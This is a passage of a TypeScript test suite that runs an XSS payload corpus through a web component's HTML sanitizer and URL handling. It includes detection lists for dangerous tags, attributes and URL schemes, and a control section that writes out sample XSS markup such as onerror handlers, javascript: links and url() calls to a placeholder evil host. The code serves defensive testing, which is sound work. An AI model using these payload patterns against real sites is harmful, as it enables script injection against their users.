  'script', 'iframe', 'frame', 'frameset', 'object', 'embed', 'applet', 'form', 'base', 'meta', 'link', 'style',
]);
/** Attributes holding one URL the browser may load or navigate to. */
const URL_ATTRIBUTES = [
  'href', 'src', 'xlink:href', 'action', 'formaction', 'data', 'poster', 'background', 'cite', 'longdesc',
  'lowsrc', 'dynsrc', 'codebase', 'ping',
];
/** Attributes holding URLs among other things. */
const MIXED_ATTRIBUTES = ['srcset', 'imagesrcset', 'values', 'to', 'from', 'by', 'style'];
const MIXED_DANGER = /(?:javascript|vbscript):|data:(?!image\/)/;
// Stricter than the URL parser: control characters and whitespace anywhere are dropped.
const strip = (value: string) => value.replace(/[\u0000-\u0020\u007f-\u009f]/g, '').toLowerCase();

function schemesOf(value: string): string[] {
  const schemes = [/^([a-z][a-z0-9+.-]*):/.exec(strip(value))?.[1]];
  try {
    schemes.push(new URL(value, document.baseURI).protocol.slice(0, -1));
  } catch {
    // Not a URL the browser could follow.
  }
  return schemes.filter((scheme): scheme is string => scheme !== undefined);
}

function isDangerousUrl(element: Element, attribute: string, value: string): boolean {
  const schemes = schemesOf(value);
  if (schemes.includes('javascript') || schemes.includes('vbscript')) return true;
  if (!schemes.includes('data')) return false;
  return !(element.localName === 'img' && attribute === 'src' && strip(value).startsWith('data:image/'));
}

/** Event handlers and dangerous URLs on any of `elements`. */
function unsafeAttributes(elements: Element[]): string[] {
  const found: string[] = [];
  for (const element of elements) {
    for (const { name, value } of element.attributes) {
      const lower = name.toLowerCase();
      const unsafe =
        lower.startsWith('on') ||
        lower === 'srcdoc' ||
        (URL_ATTRIBUTES.includes(lower) && isDangerousUrl(element, lower, value)) ||
        (MIXED_ATTRIBUTES.includes(lower) && MIXED_DANGER.test(strip(value)));
      if (unsafe) found.push(tag(element, `${name}=${JSON.stringify(value)}`));
    }
  }
  return found;
}

/** Attributes that let article HTML pass for the element's own parts or open a top-layer overlay. */
const IMPERSONATING_ATTRIBUTES = ['part', 'exportparts', 'slot', 'popover', 'popovertarget', 'popovertargetaction', 'command', 'commandfor', 'interestfor'];

function impersonatingAttributes(elements: Element[]): string[] {
  return elements.flatMap(element =>
    IMPERSONATING_ATTRIBUTES.filter(name => element.hasAttribute(name)).map(name => tag(element, name)),
  );
}

function forbiddenElements(elements: Element[]): string[] {
  return elements.filter(element => FORBIDDEN_ELEMENTS.has(element.localName)).map(element => tag(element));
}

/** Computed-style properties that may load a URL. */
const URL_PROPERTIES = ['background-image', 'list-style-image', 'border-image-source', 'mask-image', 'content', 'cursor'];

function foreignUrls(value: string): string[] {
  return [...value.matchAll(/url\(\s*["']?([^"')]*)/g)]
    .map(match => match[1])
    .filter(url => {
      try {
        return new URL(url, document.baseURI).host !== location.host;
      } catch {
        return true;
      }
    });
}

/** Overlays and url() to other hosts, as the browser computed them. */
function unsafeStyles(elements: Element[]): string[] {
  const found: string[] = [];
  for (const element of elements.filter(element => element.isConnected)) {
    const style = getComputedStyle(element);
    if (style.position === 'fixed') found.push(tag(element, 'position: fixed'));
    for (const pseudo of [null, '::before', '::after']) {
      const computed = pseudo ? getComputedStyle(element, pseudo) : style;
      for (const property of URL_PROPERTIES) {
        for (const url of foreignUrls(computed.getPropertyValue(property))) {
          found.push(tag(element, `${pseudo ?? ''}${property}: url(${url})`));
        }
      }
    }
  }
  return found;
}

/** What an HTML block becomes when it is serialized and parsed again (server rendering does this). */
function reparsed(host: Element): Element[] {
  return [...host.shadowRoot!.querySelectorAll('[part="html"]')].flatMap(block => {
    const template = document.createElement('template');
    template.innerHTML = block.innerHTML;
    return deepElements(template.content);
  });
}

function foreignRequests(): string[] {
  return performance.getEntriesByType('resource').map(entry => entry.name).filter(name => {
    try {
      return new URL(name).host !== location.host;
    } catch {
      return false;
    }
  });
}

/** What the document looks like when nothing was clobbered, redirected or added. */
function documentState() {
  return {
    href: location.href,
    baseURI: document.baseURI,
    forms: document.forms.length,
    headElements: document.head.querySelectorAll('base, meta, link, style, script').length,
    getElementById: typeof document.getElementById,
    querySelector: typeof document.querySelector,
    createElement: typeof document.createElement,
    cookie: typeof document.cookie,
    body: document.body instanceof HTMLBodyElement,
    defaultView: document.defaultView === window,
    trap: Array.isArray(window.__xss),
  };
}

// ---------------------------------------------------------------------------------------------
// Making payloads run if they can

/** A javascript: link is let through, so that if one survived the trap would see it run; any other navigation would end the test page. */
function guardNavigation(event: Event): void {
  const link = event.composedPath().find(
    (node): node is Element => node instanceof Element && (node.hasAttribute('href') || node.hasAttributeNS(XLINK, 'href')),
  );
  const href = link?.getAttribute('href') ?? link?.getAttributeNS(XLINK, 'href') ?? '';
  if (!schemesOf(href).includes('javascript')) event.preventDefault();
}

/** Clicks every element (links included) and fires every event whose handler a payload used. */
function interact(host: Element): void {
  for (const element of everything(host)) {
    if (element instanceof HTMLElement) element.click();
    else element.dispatchEvent(new MouseEvent('click', { bubbles: true, cancelable: true, composed: true }));
    for (const type of EVENTS) element.dispatchEvent(new Event(type, { cancelable: true }));
  }
}

const sleep = (ms: number) => new Promise(resolve => setTimeout(resolve, ms));

/** Waits until images have loaded or failed (so a real onerror would have run) and queued tasks ran. */
async function settle(host: Element): Promise<void> {
  const images = everything(host).filter((element): element is HTMLImageElement => element instanceof HTMLImageElement);
  await Promise.all(
    images
      .filter(image => image.isConnected && !image.complete)
      .map(image => Promise.race([
        new Promise(resolve => {
          image.addEventListener('load', resolve, { once: true });
          image.addEventListener('error', resolve, { once: true });
        }),
        sleep(2_000),
      ])),
  );
  await nextFrame();
  await nextFrame();
  await sleep(20);
}

/** Runs what a payload could trigger, then checks everything that applies to any sink. */
async function exercise(rendered: Rendered, initial: ReturnType<typeof documentState>): Promise<void> {
  const { host } = rendered;
  interact(host);
  await settle(host);

  expect(window.__xss, 'scripts that ran').to.deep.equal([]);
  expect(unsafeAttributes(everything(host)), 'event handlers and dangerous URLs').to.deep.equal([]);
  expect(forbiddenElements(content(host)), 'forbidden elements in the content').to.deep.equal([]);
  expect(impersonatingAttributes(sanitizedHtml(host)), 'part, slot and popover attributes in sanitized HTML').to.deep.equal([]);
  expect(unsafeStyles(content(host)), 'overlays and url() to other hosts').to.deep.equal([]);
  expect(foreignRequests(), 'requests to other hosts').to.deep.equal([]);
  expect(documentState(), 'the document, after').to.deep.equal(initial);
}

// ---------------------------------------------------------------------------------------------

const saved = {
  alert: window.alert,
  confirm: window.confirm,
  prompt: window.prompt,
  print: window.print,
  open: window.open,
};

describe('XSS corpus', () => {
  let initial: ReturnType<typeof documentState>;

  before(() => {
    performance.setResourceTimingBufferSize(100_000);
    window.alert = (message?: unknown) => void window.__xss.push(['alert', message]);
    window.confirm = (message?: string) => (window.__xss.push(['confirm', message]), false);
    window.prompt = (message?: string) => (window.__xss.push(['prompt', message]), null);
    window.print = () => void window.__xss.push(['print']);
    window.open = (url?: string | URL) => (window.__xss.push(['open', String(url)]), null);
    window.addEventListener('click', guardNavigation, true);
  });

  after(() => {
    Object.assign(window, saved);
    window.removeEventListener('click', guardNavigation, true);
  });

  beforeEach(() => {
    window.__xss = [];
    performance.clearResourceTimings();
    initial = documentState();
  });

  describe('the corpus', () => {
    it(`has at least 60 HTML payloads (${HTML_PAYLOADS.length}) and 25 URL payloads (${URL_PAYLOADS.length})`, () => {
      expect(HTML_PAYLOADS.length).to.be.at.least(60);
      expect(URL_PAYLOADS.length).to.be.at.least(25);
    });

    it('names each payload once in its table', () => {
      for (const table of [HTML_PAYLOADS, URL_PAYLOADS]) {
        const labels = table.map(([label]) => label);
        expect(labels.filter((label, i) => labels.indexOf(label) !== i)).to.deep.equal([]);
      }
    });
  });

  for (const sink of HTML_SINKS) {
    describe(`HTML through ${sink.name}`, () => {
      for (const [label, payload] of HTML_PAYLOADS) {
        it(label, async () => {
          const rendered = await renderArticle(sink.input(payload));
          const { host } = rendered;
          expect(host.getAttribute('state'), 'dangerous markup is sanitized, not refused').to.equal('ready');

          const asText = sink.mode === 'text' ||
            (sink.mode === 'either' && host.shadowRoot!.querySelectorAll('[part="html"]').length === 0);
          if (asText && sink.mode === 'either') {
            const elements = deepElements(host.shadowRoot!.querySelector('[part="body"]')!);
            expect(elements.map(element => tag(element)).filter(name => name !== '<p>'), 'elements made from text').to.deep.equal([]);
          } else if (asText) {
            const body = host.shadowRoot!.querySelector('[part="body"]')!;
            const elements = deepElements(body);
            expect(elements.map(element => tag(element)).filter(name => name !== '<p>'), 'elements made from text').to.deep.equal([]);
            const collapse = (text: string) => text.replace(/\s+/g, ' ').trim();
            expect(collapse(elements.map(p => p.textContent).join(' ')), 'the payload shown as text').to.equal(collapse(payload));
          } else {
            expect(host.shadowRoot!.querySelectorAll('[part="html"]'), 'the payload reached the sanitizer').to.have.length(1);
            const again = reparsed(host);
            expect(unsafeAttributes(again), 'event handlers and dangerous URLs after a round trip').to.deep.equal([]);
            expect(forbiddenElements(again), 'forbidden elements after a round trip').to.deep.equal([]);
          }

          await exercise(rendered, initial);
        });
      }
    });
  }

  for (const sink of URL_SINKS) {
    describe(`URLs through ${sink.name}`, () => {
      for (const [label, payload, kind] of URL_PAYLOADS) {
        const kept = keeps(kind, sink.use);
        it(`${kept ? 'keeps' : 'drops'} ${label}`, async () => {
          const rendered = await sink.render(payload);
          expect(rendered.host.getAttribute('state'), 'a bad URL is dropped, the rest is shown').to.equal('ready');
          expect(sink.kept(rendered), 'the URL as rendered').to.equal(kept ? payload.trim() : undefined);
          const text = content(rendered.host).map(element => element.textContent).join(' ');
          expect(text, 'the rest of the content').to.contain(sink.rest);

          await exercise(rendered, initial);
        });
      }
    });
  }

  describe('the checks above can fail', () => {
    /** A shadow root holding unsanitized markup, as a broken sanitizer would leave it. */
    async function unsanitized(markup: string): Promise<HTMLElement> {
      const host = await fixture<HTMLElement>(html`<div></div>`);
      const root = host.attachShadow({ mode: 'open' });
      root.innerHTML = markup;
      return host;
    }

    afterEach(() => {
      window.__xss = [];
    });

    it('sees a broken image\'s onerror run', async () => {
      const host = await unsanitized(`<img src=x onerror=${RUN}>`);
      await settle(host);
      expect(window.__xss).to.deep.equal([1]);
    });

    it('sees a clicked javascript: link run', async () => {
      const host = await unsanitized(`<a href="javascript:${RUN}">link</a>`);
      interact(host);
      await settle(host);
      expect(window.__xss).to.deep.equal([1]);
    });

    it('sees an inline handler run through the dispatched events', async () => {
      const host = await unsanitized(`<p ontoggle=${RUN} onanimationstart=${RUN}>p</p>`);
      interact(host);
      expect(window.__xss).to.deep.equal([1, 1]);
    });

    it('sees a request to another host, an overlay and a url() to another host', async () => {
      const host = await unsanitized(
        `<p style="position:fixed;background-image:url(${EVIL}/control.png)">p</p><img src="${EVIL}/control.gif">`,
      );
      await settle(host);
      const elements = deepElements(host.shadowRoot!);
      expect(unsafeStyles(elements)).to.deep.equal([
        '<p position: fixed>',
        `<p background-image: url(${EVIL}/control.png)>`,
      ]);
      expect(foreignRequests()).to.include(`${EVIL}/control.gif`);
    });

    it('sees handlers, dangerous URLs and forbidden elements', async () => {
      const host = await unsanitized(
        `<a href=" java\tscript:x" onclick=x>a</a><img src="data:text/html,x"><img src="${GIF}"><iframe srcdoc=x></iframe>`,
      );
      const elements = deepElements(host.shadowRoot!);
      expect(unsafeAttributes(elements)).to.deep.equal([
        '<a href=" java\\tscript:x">',
        '<a onclick="x">',
        '<img src="data:text/html,x">',
        '<iframe srcdoc="x">',
      ]);
      expect(forbiddenElements(elements)).to.deep.equal(['<iframe>']);
    });
  });
});
